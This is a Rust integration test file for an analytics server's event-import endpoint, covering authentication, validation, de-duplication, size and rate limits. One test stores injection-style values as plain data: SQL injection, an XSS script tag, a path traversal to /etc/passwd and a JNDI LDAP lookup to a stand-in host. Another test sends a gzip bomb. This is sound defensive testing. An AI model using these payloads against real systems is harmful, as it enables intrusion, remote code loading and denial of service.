//! `POST /import` over real HTTP, and the read API that shows what arrived.

use crate::common::{gzip, now_ms, on_both_stores, urlencode, Account, Backend, Server};
use datadict_server::store::Role;
use datadict_server::Config;
use serde_json::{json, Value};

fn event(name: &str, t: i64, user: &str, id: &str, extra: Value) -> Value {
    let mut props = json!({"time": t, "distinct_id": user, "$insert_id": id});
    if let Value::Object(extra) = extra {
        props.as_object_mut().unwrap().extend(extra);
    }
    json!({"event": name, "properties": props})
}

struct Fixture {
    server: Server,
    p: i64,
    token: String,
    owner: Account,
}

fn fixture_with(backend: Backend, config: Config) -> Fixture {
    let server = Server::start_with_on(backend, config);
    let project = server.project("p");
    let owner = server.account("owner", project.id, Some(Role::Owner));
    Fixture { p: project.id, token: project.token, owner, server }
}

fn fixture(backend: Backend) -> Fixture {
    fixture_with(backend, Config::default())
}

impl Fixture {
    fn import(&self, query: &str, body: &[u8], headers: &[(&str, &str)]) -> crate::common::Reply {
        let path = format!("/import?project_id={}{query}", self.p);
        self.server.send("POST", &path, Some((&self.owner.username, &self.owner.secret)), headers, Some(body.to_vec()))
    }

    fn import_json(&self, query: &str, events: &[Value]) -> crate::common::Reply {
        let body = gzip(&serde_json::to_vec(events).unwrap());
        self.import(query, &body, &[("Content-Type", "application/json"), ("Content-Encoding", "gzip")])
    }

    fn events(&self, query: &str) -> Value {
        let r = self.server.get(&format!("/api/app/projects/{}/events?{query}", self.p), &self.owner);
        assert_eq!(r.status, 200, "{}", r.text);
        r.json()
    }
}

fn a_gzipped_array_is_imported_and_read_back(backend: Backend) {
    let f = fixture(backend);
    let t = now_ms() - 60_000;
    let events: Vec<_> = (0..50)
        .map(|i| event(if i % 2 == 0 { "Purchase" } else { "Sign Up" }, t + i, &format!("u{}", i % 5), &format!("id-{i}"), json!({"price": i, "$source": if i < 10 { "warehouse-import" } else { "sdk" }})))
        .collect();
    let r = f.import_json("&strict=1", &events);
    assert_eq!((r.status, r.json()), (200, json!({"code": 200, "num_records_imported": 50, "status": "OK"})));

    let all = f.events("limit=1000");
    assert_eq!(all["results"].as_array().unwrap().len(), 50);
    assert_eq!(all["next_cursor"], Value::Null);
    // Newest first, and the record is served back as sent.
    assert_eq!(all["results"][0], events[49]);

    assert_eq!(f.events("event=Purchase&limit=1000")["results"].as_array().unwrap().len(), 25);
    assert_eq!(f.events("distinct_id=u3&limit=1000")["results"].as_array().unwrap().len(), 10);
    assert_eq!(f.events("where=$source=warehouse-import")["results"].as_array().unwrap().len(), 10);
    assert_eq!(f.events("where=price=7")["results"].as_array().unwrap().len(), 1);
    assert_eq!(f.events(&format!("from={}&to={}", t + 10, t + 20))["results"].as_array().unwrap().len(), 10);

    // Pages of 20 cover everything once.
    let mut seen = Vec::new();
    let mut query = "limit=20".to_owned();
    loop {
        let page = f.events(&query);
        seen.extend(page["results"].as_array().unwrap().iter().map(|e| e["properties"]["$insert_id"].clone()));
        match page["next_cursor"].as_str() {
            Some(c) => query = format!("limit=20&cursor={c}"),
            None => break,
        }
    }
    assert_eq!(seen.len(), 50);
    seen.dedup();
    assert_eq!(seen.len(), 50);

    let counts = f.server.get(&format!("/api/app/projects/{}/event-counts?days=30", f.p), &f.owner).json();
    assert_eq!(counts["results"][0]["count"], 25);
    assert_eq!(counts["results"].as_array().unwrap().len(), 2);
    assert_eq!(counts["days"], 30);

    for bad in ["limit=0", "limit=x", "cursor=zz", "where=novalue", "from=yesterday"] {
        let r = f.server.get(&format!("/api/app/projects/{}/events?{bad}", f.p), &f.owner);
        assert_eq!(r.status, 400, "{bad}");
    }
    let r = f.server.get(&format!("/api/app/projects/{}/event-counts?days=31", f.p), &f.owner);
    assert_eq!(r.status, 400);
}

fn ndjson_with_the_project_token(backend: Backend) {
    let f = fixture(backend);
    let t = now_ms() / 1000; // seconds are accepted too
    let body = format!(
        "{}\n{}\n\n",
        event("A", t, "u1", "a-1", json!({})),
        event("A", t, "u2", "a-2", json!({}))
    );
    let r = f.server.send("POST", "/import?strict=1", Some((&f.token, "")), &[("Content-Type", "application/x-ndjson")], Some(body.into_bytes()));
    assert_eq!((r.status, r.json()), (200, json!({"code": 200, "num_records_imported": 2, "status": "OK"})));
    let with_id = format!("/import?strict=1&project_id={}", f.p);
    let one = serde_json::to_vec(&[event("A", t, "u3", "a-3", json!({}))]).unwrap();
    assert_eq!(f.server.send("POST", &with_id, Some((&f.token, "")), &[], Some(one.clone())).status, 200);
    assert_eq!(f.events("")["results"].as_array().unwrap().len(), 3);
    // The token of another project, or a wrong token.
    let other = f.server.project("other");
    let r = f.server.send("POST", &with_id, Some((&other.token, "")), &[], Some(one.clone()));
    assert_eq!(r.status, 403);
    let r = f.server.send("POST", &with_id, Some(("not-a-token", "")), &[], Some(one.clone()));
    assert_eq!((r.status, r.json()), (401, json!({"code": 401, "error": "Invalid credentials", "status": "Unauthorized"})));
    let r = f.server.send("POST", &with_id, None, &[], Some(one.clone()));
    assert_eq!(r.status, 401);
    assert_eq!(r.json()["status"], "Unauthorized");
    // A service account needs project_id and a write role.
    let r = f.server.send("POST", "/import?strict=1", Some((&f.owner.username, &f.owner.secret)), &[], Some(one.clone()));
    assert_eq!(r.status, 400);
    assert!(r.json()["error"].as_str().unwrap().contains("project_id"));
    let consumer = f.server.account("reader", f.p, Some(Role::Consumer));
    let r = f.server.send("POST", &with_id, Some((&consumer.username, &consumer.secret)), &[], Some(one));
    assert_eq!((r.status, r.json()["code"].clone()), (403, json!(403)));
}

/// The service's server-side libraries put the project token in each imported event's
/// `properties.token`: it is not stored (nor flagged by the dictionary), as on `/track`; a token
/// that is not a string is refused by name.
fn a_token_in_imported_events_is_not_stored(backend: Backend) {
    let f = fixture(backend);
    let t = now_ms() - 60_000;
    let r = f.import_json("&strict=1", &[event("Tokened", t, "u1", "tok-1", json!({"token": f.token, "plan": "pro"}))]);
    assert_eq!(r.status, 200, "{}", r.text);
    let stored = f.events("event=Tokened")["results"][0]["properties"].clone();
    assert_eq!(stored, json!({"time": t, "distinct_id": "u1", "$insert_id": "tok-1", "plan": "pro"}));
    let r = f.import_json("&strict=1", &[event("Tokened", t, "u1", "tok-2", json!({"token": 7}))]);
    assert_eq!(r.status, 400, "{}", r.text);
    let message = r.json()["failed_records"][0]["message"].as_str().unwrap_or_default().to_owned();
    assert!(message.contains("properties.token") && message.contains("project token"), "{}", r.text);
}

fn strict_mode_reports_every_bad_record_and_keeps_the_good_ones(backend: Backend) {
    let f = fixture(backend);
    let t = now_ms();
    let events = vec![
        event("Good", t, "u1", "g-1", json!({})),
        json!({"event": "Bad time", "properties": {"time": 5, "distinct_id": "u1", "$insert_id": "b-1"}}),
        json!({"event": "Bad id", "properties": {"time": t, "distinct_id": "null", "$insert_id": "has:colon"}}),
        json!({"properties": {"time": t}}),
        json!([1, 2]),
        event("Good", t, "u2", "g-2", json!({})),
    ];
    let r = f.import_json("&strict=1", &events);
    assert_eq!(r.status, 400, "{}", r.text);
    let body = r.json();
    assert_eq!(body["code"], 400);
    assert_eq!(body["status"], "Bad Request");
    assert_eq!(body["error"], "some data points in the request failed validation");
    assert_eq!(body["num_records_imported"], 2);
    let failed = body["failed_records"].as_array().unwrap();
    let indexes: Vec<_> = failed.iter().map(|f| f["index"].as_u64().unwrap()).collect();
    for i in [1, 2, 3, 4] {
        assert!(indexes.contains(&i), "record {i} not reported: {body}");
    }
    assert!(!indexes.contains(&0) && !indexes.contains(&5));
    let time = failed.iter().find(|f| f["index"] == 1).unwrap();
    assert_eq!(time["field"], "properties.time");
    assert_eq!(time["$insert_id"], "b-1");
    assert!(!time["message"].as_str().unwrap().is_empty());
    let fields: Vec<_> = failed.iter().filter(|f| f["index"] == 2).map(|f| f["field"].as_str().unwrap()).collect();
    assert!(fields.contains(&"properties.distinct_id") && fields.contains(&"properties.$insert_id"), "{fields:?}");
    assert_eq!(f.events("")["results"].as_array().unwrap().len(), 2);

    // Without strict mode the bad records are skipped and the answer is 200.
    let events = vec![event("Good", t, "u3", "g-3", json!({})), json!({"event": "x"})];
    let r = f.import_json("&strict=0", &events);
    assert_eq!((r.status, r.json()), (200, json!({"code": 200, "num_records_imported": 1, "status": "OK"})));
    assert_eq!(r.header("x-datadict-records-skipped"), Some("1"));
    assert_eq!(f.events("")["results"].as_array().unwrap().len(), 3);
}

/// The reference's `/import`: "If the time value is set in the future, it will be overwritten
/// with the current present time at ingestion"; FACTS.md refuses more than an hour ahead.
fn a_time_ahead_of_the_clock_is_set_to_it_and_over_an_hour_ahead_refused(backend: Backend) {
    let f = fixture(backend);
    let before = now_ms();
    let events = vec![event("Soon", before + 30 * 60_000, "u1", "s-1", json!({})), event("Later", before + 2 * 3_600_000, "u1", "l-1", json!({}))];
    let r = f.import_json("&strict=1", &events);
    let after = now_ms();
    assert_eq!((r.status, r.json()["num_records_imported"].clone()), (400, json!(1)), "{}", r.text);
    assert_eq!(r.json()["failed_records"][0]["index"], 1, "{}", r.text);
    let stored = f.events("event=Soon");
    let time = stored["results"][0]["properties"]["time"].as_i64().unwrap();
    assert!((before..=after).contains(&time), "{time} not in {before}..={after}: {stored}");
}

fn duplicates_keep_the_latest_copy(backend: Backend) {
    let f = fixture(backend);
    let t = now_ms();
    let first = event("Purchase", t, "u1", "dup-1", json!({"price": 1}));
    let second = event("Purchase", t, "u1", "dup-1", json!({"price": 2}));
    assert_eq!(f.import_json("&strict=1", std::slice::from_ref(&first)).status, 200);
    let r = f.import_json("&strict=1", std::slice::from_ref(&second));
    assert_eq!(r.json()["num_records_imported"], 1);
    assert_eq!(f.events("")["results"], json!([second]));
    // Within one batch, the later copy wins too; another insert id is another event.
    let third = event("Purchase", t, "u1", "dup-1", json!({"price": 3}));
    let other = event("Purchase", t, "u1", "dup-2", json!({"price": 4}));
    assert_eq!(f.import_json("&strict=1", &[first, third.clone(), other.clone()]).status, 200);
    let stored = f.events("")["results"].clone();
    assert_eq!(stored.as_array().unwrap().len(), 2);
    assert!(stored.as_array().unwrap().contains(&third) && stored.as_array().unwrap().contains(&other));
    // The same time in seconds and in milliseconds is the same event.
    let secs = event("Tick", 1_700_000_000, "u1", "s-1", json!({"v": 1}));
    let millis = event("Tick", 1_700_000_000_000, "u1", "s-1", json!({"v": 2}));
    assert_eq!(f.import_json("&strict=1", &[secs, millis.clone()]).status, 200);
    assert_eq!(f.events("event=Tick")["results"], json!([millis]));
}

fn dropped_events_and_properties_do_not_reach_storage(backend: Backend) {
    let f = fixture(backend);
    let schemas = json!({"entries": [
        {"entityType": "event", "name": "Debug Ping", "schemaJson": {"metadata": {"com.vendor": {"dropped": true}}}},
        {"entityType": "event", "name": "Purchase", "schemaJson": {"properties": {
            "card": {"type": "string", "metadata": {"com.vendor": {"dropped": true}}},
            "price": {"type": "number"}}}}
    ]});
    assert_eq!(f.server.post_json(&format!("/api/app/projects/{}/schemas", f.p), &f.owner, &schemas).status, 200);
    let t = now_ms();
    let r = f.import_json("&strict=1", &[
        event("Debug Ping", t, "u1", "d-1", json!({})),
        event("Purchase", t, "u1", "p-1", json!({"card": "4242", "price": 9.5})),
        event("Other", t, "u1", "o-1", json!({"card": "kept"})),
    ]);
    assert_eq!(r.json(), json!({"code": 200, "num_records_imported": 3, "status": "OK"}));
    assert_eq!(f.events("event=Debug%20Ping")["results"], json!([]));
    assert_eq!(f.events("event=Purchase")["results"][0]["properties"], json!({"time": t, "distinct_id": "u1", "$insert_id": "p-1", "price": 9.5}));
    assert_eq!(f.events("event=Other")["results"][0]["properties"]["card"], "kept");
}

fn long_strings_are_truncated_at_255_bytes(backend: Backend) {
    let f = fixture(backend);
    let long = "é".repeat(200); // 400 bytes
    let r = f.import_json("&strict=1", &[event("Long", now_ms(), "u1", "l-1", json!({"text": long, "list": [long]}))]);
    assert_eq!(r.status, 200, "{}", r.text);
    let props = &f.events("")["results"][0]["properties"];
    assert_eq!(props["text"].as_str().unwrap().len(), 254);
    assert_eq!(props["list"][0].as_str().unwrap().len(), 254);
}

/// An event name or `distinct_id` over 255 bytes is stored cut (on a character boundary), and the
/// event is then known by the cut value everywhere: found and counted under it, de-duplicated by it
/// (two names that differ only after the cut are one event, and the later copy wins), and dropped
/// by a schema of that name.
fn long_names_and_distinct_ids_are_known_by_what_is_stored(backend: Backend) {
    let f = fixture(backend);
    let t = now_ms();
    // 254 bytes, then a two-byte character across the 255-byte cut: the cut keeps the 254.
    let stem = format!("{}é", "E".repeat(254));
    let cut_name = "E".repeat(254);
    let (user, cut_user) = ("u".repeat(300), "u".repeat(255));
    let r = f.import_json("&strict=1", &[
        event(&format!("{stem} one"), t, &user, "long-1", json!({"v": 1})),
        event(&format!("{stem} two"), t, &user, "long-1", json!({"v": 2})),
    ]);
    assert_eq!(r.json()["num_records_imported"], 2, "{}", r.text);
    let found = f.events(&format!("event={cut_name}"))["results"].clone();
    assert_eq!(found.as_array().unwrap().len(), 1, "{found}");
    assert_eq!((&found[0]["event"], &found[0]["properties"]["distinct_id"]), (&json!(cut_name), &json!(cut_user)));
    assert_eq!(found[0]["properties"]["v"], 2);
    assert_eq!(f.events(&format!("distinct_id={cut_user}"))["results"], found);
    assert_eq!(f.events(&format!("distinct_id={user}"))["results"], json!([]));
    let counts = f.server.get(&format!("/api/app/projects/{}/event-counts", f.p), &f.owner).json();
    assert_eq!((&counts["results"][0]["event"], &counts["results"][0]["count"]), (&json!(cut_name), &json!(1)), "{counts}");
    // A schema of the cut name marked dropped drops the long name's events.
    let schema = json!({"metadata": {"com.vendor": {"dropped": true}}});
    let r = f.server.post_json(&format!("/api/app/projects/{}/schemas/event/{cut_name}", f.p), &f.owner, &schema);
    assert_eq!(r.status, 200, "{}", r.text);
    let r = f.import_json("&strict=1", &[event(&format!("{stem} three"), t, "u2", "long-2", json!({}))]);
    assert_eq!(r.json()["num_records_imported"], 1, "{}", r.text);
    assert_eq!(f.events(&format!("event={cut_name}"))["results"], found);
}

/// An uncompressed body over the default request limit (10 MB, FACTS.md) is refused with 413 and a
/// message that names the limit; a body under it is read and judged.
fn an_uncompressed_body_over_the_default_10_mb_answers_413(backend: Backend) {
    let f = fixture(backend);
    let limit = datadict_core::Limits::default().max_request_bytes;
    let padded = |len: usize| {
        let mut body = b"[".to_vec();
        body.resize(len - 1, b' ');
        body.push(b']');
        body
    };
    let r = f.import("&strict=1", &padded(limit + 1), &[("Content-Type", "application/json")]);
    assert_eq!(r.status, 413, "{}", r.text);
    assert!(r.json()["error"].as_str().unwrap().contains(&limit.to_string()), "{}", r.text);
    let r = f.import("&strict=1", &padded(limit), &[("Content-Type", "application/json")]);
    assert_eq!((r.status, r.json()["error"].as_str().unwrap_or_default().contains("no events")), (400, true), "{}", r.text);
}

/// Names and values that look like SQL, HTML, paths or template syntax are data like any other:
/// stored and read back byte for byte, found by event name, distinct_id and property value, and
/// usable as schema names (created, read, listed and deleted), without touching other rows.
fn injection_looking_names_and_values_are_plain_data(backend: Backend) {
    let f = fixture(backend);
    let t = now_ms();
    let names = [
        "x'); DROP TABLE events; --",
        "\" OR 1=1 --",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "${jndi:ldap://x.test/a}",
        "%00%27 AND sleep(5)",
        "Robert'); -- ünïcödé ✓",
    ];
    let events: Vec<Value> = names.iter().enumerate().map(|(i, name)| {
        event(name, t - i as i64, name, &format!("inj-{i}"), json!({"note": name, "p' OR '1'='1": name}))
    }).collect();
    let r = f.import_json("&strict=1", &events);
    assert_eq!(r.json()["num_records_imported"], names.len(), "{}", r.text);
    assert_eq!(f.events("")["results"].as_array().unwrap().len(), names.len());
    for (i, name) in names.iter().enumerate() {
        let one = json!([events[i]]);
        assert_eq!(f.events(&format!("event={}", urlencode(name)))["results"], one, "event={name}");
        assert_eq!(f.events(&format!("distinct_id={}", urlencode(name)))["results"], one, "distinct_id={name}");
        assert_eq!(f.events(&format!("where={}", urlencode(&format!("note={name}"))))["results"], one, "where note={name}");
        // A name that holds `=` is quoted.
        assert_eq!(f.events(&format!("where={}", urlencode(&format!("\"p' OR '1'='1\"={name}"))))["results"], one, "where p' OR..={name}");
        let path = format!("/api/app/projects/{}/schemas/event/{}", f.p, urlencode(name));
        let r = f.server.post_json(&path, &f.owner, &json!({"description": name}));
        assert_eq!(r.status, 200, "{name}: {}", r.text);
        let r = f.server.get(&path, &f.owner);
        assert_eq!((r.status, &r.json()["description"]), (200, &json!(name)), "{name}: {}", r.text);
    }
    let list = f.server.get(&format!("/api/app/projects/{}/schemas/event", f.p), &f.owner).json();
    let mut listed: Vec<&str> = list["results"].as_array().unwrap().iter().map(|e| e["name"].as_str().unwrap()).collect();
    let mut want = names.to_vec();
    listed.sort_unstable();
    want.sort_unstable();
    assert_eq!(listed, want);
    let first = format!("/api/app/projects/{}/schemas/event/{}", f.p, urlencode(names[0]));
    assert_eq!(f.server.delete(&first, &f.owner).json()["results"]["delete_count"], 1);
    let left = f.server.get(&format!("/api/app/projects/{}/schemas/event", f.p), &f.owner).json();
    assert_eq!(left["results"].as_array().unwrap().len(), names.len() - 1);
    assert_eq!(f.events("")["results"].as_array().unwrap().len(), names.len(), "the events are all still there");
}

fn size_limits_answer_413(backend: Backend) {
    let mut config = Config::default();
    config.limits.max_request_bytes = 100_000;
    let f = fixture_with(backend, config);
    let t = now_ms();
    let too_many: Vec<_> = (0..2001).map(|i| event("E", t, "u", &format!("i{i}"), json!({}))).collect();
    let r = f.import_json("&strict=1", &too_many[..2001]);
    assert_eq!(r.status, 413);
    assert_eq!(r.json()["code"], 413);
    let big = serde_json::to_vec(&[event("E", t, "u", "x", json!({"pad": "a".repeat(200_000)}))]).unwrap();
    let r = f.import("&strict=1", &big, &[]);
    assert_eq!((r.status, r.json()["status"].clone()), (413, json!("Request Entity Too Large")));
    // A gzip bomb: 50 MB of zeros in a small body.
    let bomb = gzip(&vec![b' '; 50 << 20]);
    assert!(bomb.len() < 1 << 20);
    let r = f.import("&strict=1", &bomb, &[("Content-Encoding", "gzip")]);
    assert_eq!(r.status, 413);
    // Nothing was stored, and the server still answers.
    assert_eq!(f.events("")["results"], json!([]));
}

fn the_ingest_rate_limit_answers_429(backend: Backend) {
    let f = fixture_with(backend, Config { ingest_rate_limit: Some(1000), ..Default::default() });
    let batch: Vec<_> = (0..10).map(|i| event("E", now_ms(), "u", &format!("r{i}"), json!({}))).collect();
    assert_eq!(f.import_json("&strict=1", &batch).status, 200);
    let mut last = None;
    for _ in 0..3 {
        last = Some(f.import_json("&strict=1", &batch));
    }
    let r = last.unwrap();
    assert_eq!(r.status, 429);
    assert_eq!(
        r.json(),
        json!({"code": 429, "error": "Project exceeded rate limits. Please retry the request with exponential backoff.", "status": "Too Many Requests"})
    );
    assert!(r.header("retry-after").unwrap().parse::<u64>().unwrap() >= 1);
}

fn event_counts_leave_out_events_older_than_30_days(backend: Backend) {
    let f = fixture(backend);
    let day = 86_400_000;
    let now = now_ms();
    let r = f.import_json("&strict=1", &[
        event("Recent", now - day, "u1", "r-1", json!({})),
        event("Recent", now - 29 * day, "u1", "r-2", json!({})),
        event("Old", now - 31 * day, "u1", "o-1", json!({})),
        event("Recent", now - 45 * day, "u1", "r-3", json!({})),
    ]);
    assert_eq!(r.json()["num_records_imported"], 4);
    let counts = f.server.get(&format!("/api/app/projects/{}/event-counts", f.p), &f.owner).json();
    assert_eq!(counts["results"].as_array().unwrap().len(), 1, "{counts}");
    assert_eq!(counts["results"][0]["event"], "Recent");
    assert_eq!(counts["results"][0]["count"], 2);
    assert_eq!(counts["results"][0]["last_seen_ms"], now - day);
    let week = f.server.get(&format!("/api/app/projects/{}/event-counts?days=7", f.p), &f.owner).json();
    assert_eq!(week["results"][0]["count"], 1);
    // The old events are still stored and can be read back by time range.
    assert_eq!(f.events(&format!("to={}", now - 30 * day))["results"].as_array().unwrap().len(), 2);
}

/// A body of several parts (the writer stores 250 rows at a time while the rest are checked):
/// failures in any part are reported at their places in the body, every valid event of every
/// part is stored, and the later copy of an event wins when the copies sit in different parts.
fn failures_and_copies_across_the_parts_of_a_large_body(backend: Backend) {
    let f = fixture(backend);
    let t = now_ms() - 60_000;
    let mut events: Vec<_> = (0..1_000).map(|i| event("Page View", t + i, "u1", &format!("id-{i}"), json!({"copy": "first"}))).collect();
    events[3] = event("Page View", t + 3, "anon", "id-3", json!({}));
    events[700] = event("Page View", t + 700, "u1", "id:700", json!({}));
    // Event 10 again, in the second half: this copy is the one kept.
    events[900] = event("Page View", t + 10, "u1", "id-10", json!({"copy": "second"}));
    let r = f.import_json("&strict=1", &events);
    assert_eq!(r.status, 400, "{}", r.text);
    let body = r.json();
    assert_eq!(body["num_records_imported"], 998);
    let places: Vec<_> = body["failed_records"].as_array().unwrap().iter().map(|f| f["index"].as_u64().unwrap()).collect();
    assert_eq!(places, [3, 700]);
    let stored = f.events("limit=1000");
    // 998 valid records, two of them copies of one event.
    assert_eq!(stored["results"].as_array().unwrap().len(), 997);
    let tenth = f.events("where=$insert_id=id-10");
    assert_eq!(tenth["results"].as_array().unwrap().len(), 1);
    assert_eq!(tenth["results"][0]["properties"]["copy"], "second");
}

/// A JSON array is read once, its records stored part by part as they are checked, so its
/// framing and its record count are known only at its end. A body refused there (a trailing
/// comma, text after the array, one event too many) still stores nothing: the parts already
/// sent are rolled back. A good body sent next is stored whole.
fn a_body_refused_at_its_end_stores_nothing(backend: Backend) {
    let f = fixture(backend);
    let t = now_ms() - 60_000;
    let events: Vec<_> = (0..1_000).map(|i| event("Page View", t + i, "u1", &format!("id-{i}"), json!({}))).collect();
    let array = serde_json::to_string(&events).unwrap();
    let gzipped = |text: &str| gzip(text.as_bytes());
    let headers = [("Content-Type", "application/json"), ("Content-Encoding", "gzip")];

    let trailing_comma = format!("{},]", &array[..array.len() - 1]);
    let r = f.import("&strict=1", &gzipped(&trailing_comma), &headers);
    assert_eq!(r.status, 400, "{}", r.text);
    assert!(r.json()["error"].as_str().unwrap().contains("remove the trailing comma"), "{}", r.text);

    let after = format!("{array}\n{{}}");
    let r = f.import("&strict=1", &gzipped(&after), &headers);
    assert_eq!(r.status, 400, "{}", r.text);
    assert!(r.json()["error"].as_str().unwrap().contains("after the closing `]` at line 2"), "{}", r.text);

    let too_many: Vec<_> = (0..2_001).map(|i| event("E", t, "u", &format!("i{i}"), json!({}))).collect();
    let r = f.import_json("&strict=1", &too_many);
    assert_eq!(r.status, 413, "{}", r.text);
    assert!(r.json()["error"].as_str().unwrap().contains("holds 2001 events; send at most 2000"), "{}", r.text);

    assert_eq!(f.events("limit=1000")["results"].as_array().unwrap().len(), 0, "events were stored");
    let counts = f.server.get(&format!("/api/app/projects/{}/event-counts", f.p), &f.owner).json();
    assert_eq!(counts["results"], json!([]), "{counts}");

    let r = f.import("&strict=1", &gzipped(&array), &headers);
    assert_eq!((r.status, r.json()["num_records_imported"].clone()), (200, json!(1000)), "{}", r.text);
    assert_eq!(f.events("limit=1000")["results"].as_array().unwrap().len(), 1000);
}

on_both_stores!(a_time_ahead_of_the_clock_is_set_to_it_and_over_an_hour_ahead_refused, a_gzipped_array_is_imported_and_read_back, ndjson_with_the_project_token, a_token_in_imported_events_is_not_stored, strict_mode_reports_every_bad_record_and_keeps_the_good_ones, duplicates_keep_the_latest_copy, dropped_events_and_properties_do_not_reach_storage, long_strings_are_truncated_at_255_bytes, long_names_and_distinct_ids_are_known_by_what_is_stored, an_uncompressed_body_over_the_default_10_mb_answers_413, injection_looking_names_and_values_are_plain_data, size_limits_answer_413, the_ingest_rate_limit_answers_429, event_counts_leave_out_events_older_than_30_days, failures_and_copies_across_the_parts_of_a_large_body, a_body_refused_at_its_end_stores_nothing);
